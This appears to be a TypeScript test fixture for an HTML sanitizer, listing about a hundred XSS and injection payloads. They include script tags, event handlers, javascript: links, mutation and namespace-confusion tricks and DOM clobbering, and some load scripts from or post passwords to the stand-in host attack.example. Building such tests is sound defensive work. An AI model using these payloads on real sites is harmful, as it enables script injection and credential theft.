/**
 * HTML and text with which somebody might try to get a script, a form or a foreign address into an article.
 * Each carries the mark `attack`, so that a test can look for what is left of it.
 */

export type HtmlAttack = { readonly name: string; readonly html: string };

const esc = (code: number): string => String.fromCharCode(code);

const own = `/images/${'0a'.repeat(32)}/960.webp`;

export const htmlAttacks: readonly HtmlAttack[] = Object.entries({
  'a script': '<script>attack()</script>',
  'a script in capitals with a space': '<SCRIPT SRC=https://attack.example/x.js></SCRIPT >',
  'a script that is not closed': '<p>Before</p><script>attack()',
  'a script split by another': '<scr<script>ipt>attack()</scr</script>ipt>',
  'a script after a null byte': `<scr${esc(0)}ipt>attack()</scr${esc(0)}ipt>`,
  'a script after a byte-order mark': `${esc(0xfeff)}<script>attack()</script>`,
  'a script with a slash for a space': '<script/x>attack()</script>',
  'a script in svg': '<svg><script>attack()</script></svg>',
  'a script in svg, as an entity': '<svg><script>&#97;ttack()</script></svg>',
  'an svg that loads': '<svg onload=attack()>',
  'an svg animation of a link':
    '<svg><a><animate attributeName=href values=javascript:attack() /><text>x</text></a></svg>',
  'an svg use of another file': '<svg><use xlink:href="data:image/svg+xml,attack#x"/></svg>',
  'an xlink in math': '<math><mi xlink:href="javascript:attack()">x</mi></math>',
  'namespace confusion by math and style':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=attack()&gt;">',
  'namespace confusion by svg and style':
    '<svg></p><style><a id="</style><img src=1 onerror=attack()>">',
  'namespace confusion by form':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=attack()>',
  'namespace confusion by annotation-xml':
    '<math><annotation-xml encoding="text/html"><script>attack()</script></annotation-xml></math>',
  'mutation by noscript': '<noscript><p title="</noscript><img src=x onerror=attack()>">',
  'mutation by template': '<template><script>attack()</script></template>',
  'mutation by xmp': '<xmp><p title="</xmp><img src=x onerror=attack()>"></xmp>',
  'mutation by textarea': '<textarea><p title="</textarea><img src=x onerror=attack()>">',
  'mutation by title': '<title><p title="</title><img src=x onerror=attack()>">',
  'mutation by iframe': '<iframe><p title="</iframe><img src=x onerror=attack()>">',
  'mutation by noembed': '<noembed><p title="</noembed><img src=x onerror=attack()>">',
  'mutation by select': '<select><template><img src=x onerror=attack()></template></select>',
  'mutation by nested tables':
    '<table><td><table><a href="javascript:attack()"></table></td>x</a></table>',
  'a comment that ends early': '<!--><img src=x onerror=attack()>-->',
  'a comment that ends with a bang': '<!-- --!><img src=x onerror=attack()> -->',
  'a conditional comment': '<!--[if gte IE 4]><script>attack()</script><![endif]-->',
  'a processing instruction': '<?xml version="1.0"?><?attack <img src=x onerror=attack()>?>',
  'a CDATA section': '<![CDATA[<img src=x onerror=attack()>]]>',
  'the end of a CDATA section': '<p>]]>attack<script>attack()</script></p>',
  'the end of a JSON-LD script': '</script><script>attack()</script>',
  'an entity for the end of a script':
    '<p>&lt;/script&gt;&lt;script&gt;attack()&lt;/script&gt;</p>',
  'a doubly written entity': '<p>&amp;lt;script&amp;gt;attack()&amp;lt;/script&amp;gt;</p>',
  'an image that fails': '<img src=x onerror=attack()>',
  'an image of our own that fails': `<img src="${own}" onerror="attack()" alt="x">`,
  'an attribute without a space': `<img src="${own}"onerror="attack()">`,
  'an attribute after a slash': `<img/src="${own}"/onerror=attack()>`,
  'an attribute after a form feed': `<img src="${own}"${esc(12)}onerror=attack()>`,
  'a quote in an attribute': `<img src="${own}" alt="&quot; onerror=&quot;attack()">`,
  'an angle bracket in an attribute': '<p><abbr title="><script>attack()</script>">x</abbr></p>',
  'an image of the wrong scheme': '<img src="http://attack.example/x.png" alt="">',
  'an image that is data': '<img src="data:image/svg+xml;base64,attack" alt="">',
  'an image with more sources': `<img src="${own}" srcset="https://attack.example/x.png 2x">`,
  'an image with a wide side': `<img src="${own}" width="attack" height="99999999">`,
  'a picture with a source': `<picture><source srcset="javascript:attack()"><img src="${own}" alt="x"></picture>`,
  'a link that is a script': '<a href="javascript:attack()">x</a>',
  'a link that is a script, in capitals': '<a href="JaVaScRiPt:attack()">x</a>',
  'a link with entities': '<a href="&#106;&#97;&#118;&#97;script&colon;attack()">x</a>',
  'a link with long entities': '<a href="&#x6A&#x61&#x76&#x61&#x73cript&#58;attack()">x</a>',
  'a link with a tab': '<a href="jav&Tab;ascript:attack()">x</a>',
  'a link with line ends': '<a href="java\nscript\r:attack()">x</a>',
  'a link after control characters': `<a href="${esc(1)}${esc(31)} javascript:attack()">x</a>`,
  'a link with a null byte': `<a href="java${esc(0)}script:attack()">x</a>`,
  'a link with a hidden character': `<a href="java${esc(0x200b)}script:attack()">x</a>`,
  'a link that is vbscript': '<a href="vbscript:attack()">x</a>',
  'a link that is data': '<a href="data:text/html,<script>attack()</script>">x</a>',
  'a link that is a blob': '<a href="blob:https://attack.example/1">x</a>',
  'a link to a file': '<a href="file:///attack">x</a>',
  'a link to another host': '<a href="//attack.example">x</a>',
  'a link to another host by backslashes': '<a href="/\\attack.example">x</a>',
  'a link to another host by a tab': '<a href="/&Tab;/attack.example">x</a>',
  'a link to another host by line ends': '<a href="/\n/attack.example">x</a>',
  'a link to a host in disguise': '<a href="https:\\\\attack.example">x</a>',
  'a link that opens a window for itself':
    '<a href="https://attack.example" target="_blank" rel="opener" ping="/attack">x</a>',
  'a link with a form action': '<a href="/x" formaction="javascript:attack()" download>x</a>',
  'a link that reads backwards': `<a href="/x${esc(0x202e)}kcatta">x${esc(0x202e)}attack</a>`,
  'text that reads backwards, by entities': '<p>x&#x202e;attack&#8297;</p>',
  'an event of a paragraph': '<p onmouseover="attack()" onclick=attack()>x</p>',
  'an event in capitals': '<P ONFOCUS=attack() TABINDEX=0 AUTOFOCUS>x</P>',
  'an event of a detail': '<details open ontoggle=attack()>x</details>',
  'an event of a movie': '<video><source onerror="attack()"></video>',
  'an event of the marquee': '<marquee onstart=attack()>x</marquee>',
  'an event of the body': '<body onload=attack() background="javascript:attack()">x</body>',
  'a style': '<style>@import "https://attack.example/x.css";</style>',
  'a style of an element': '<p style="background:url(javascript:attack())">x</p>',
  'an expression in a style': '<p style="width: expression(attack())">x</p>',
  'an overlay by style': '<p style="position:fixed;inset:0" class="attack">x</p>',
  'a style sheet': '<link rel=stylesheet href="https://attack.example/x.css">',
  'another base': '<base href="https://attack.example/">',
  'a page that leaves': '<meta http-equiv=refresh content="0;url=javascript:attack()">',
  'a form':
    '<form action="https://attack.example"><input name=password><button>Log in</button></form>',
  'a button with an action': '<button form=x formaction="javascript:attack()">attack</button>',
  'a frame': '<iframe src="javascript:attack()"></iframe>',
  'a frame with a document': '<iframe srcdoc="&lt;script&gt;attack()&lt;/script&gt;"></iframe>',
  frames: '<frameset><frame src="javascript:attack()"></frameset>',
  'an object': '<object data="javascript:attack()"><param name=x value=attack></object>',
  'an embedded file': '<embed src="javascript:attack()">',
  'an applet': '<applet code="attack.class"></applet>',
  'a custom element': '<attack-element onclick=attack()>x</attack-element>',
  'a slot': '<slot name=attack onslotchange=attack()></slot>',
  'clobbering by id': `<a id=currentScript href="/x">x</a><img src="${own}" name=cookie alt="">`,
  'clobbering by a form': '<form id=document name=attack><input id=attributes></form>',
  'clobbering by a heading': '<h2 id="__reactRouterContext" name="attack">x</h2>',
  'a heading of the page': '<h1 onclick=attack()>x</h1>',
  'a quote that cites': '<blockquote cite="javascript:attack()">x</blockquote>',
  'a table with a background':
    '<table background="javascript:attack()"><tr><td>x</td></tr></table>',
  'a cell with an odd scope':
    '<table><tr><th scope="attack" onclick="attack()">x</th></tr></table>',
  'a tag that does not end': '<p>x</p><img src=x onerror=attack() ',
  'a tag in a tag': '<<p>script>attack()<</p>/script>',
  'a great depth': `${'<blockquote>'.repeat(500)}attack`,
}).map(([name, html]) => ({ name, html }));

/** For titles, excerpts, tags and categories, which are text: they are shown as typed and never read as HTML. */
export const textAttacks: readonly string[] = [
  '<script>attack()</script>',
  '</script><script>attack()</script>',
  '</title><svg onload=attack()>',
  '"><img src=x onerror=attack()>',
  "' onmouseover='attack()",
  ']]><attack/>',
  '<!--attack-->',
  '&lt;script&gt;attack()&lt;/script&gt;',
  '&quot; attack',
  '{{attack}} `attack`',
];
